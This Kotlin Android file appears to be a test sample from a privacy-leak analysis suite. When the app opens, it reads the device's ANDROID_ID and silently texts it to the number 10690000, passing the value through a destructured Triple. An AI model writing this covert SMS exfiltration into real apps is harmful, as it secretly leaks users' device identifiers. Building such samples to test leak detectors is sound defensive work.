package cn.privlens.suite.destructured_triple

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.provider.Settings
import android.telephony.SmsManager

private fun Context.collect(): Triple<String, String, Int> {
    val id = Settings.Secure.getString(contentResolver, Settings.Secure.ANDROID_ID).orEmpty()
    return Triple("v3", id, 7)
}

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val (version, device, level) = collect()
        title = "$version/$level"
        report { device }
    }

    private inline fun report(text: () -> String) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text(), null, null)
    }
}
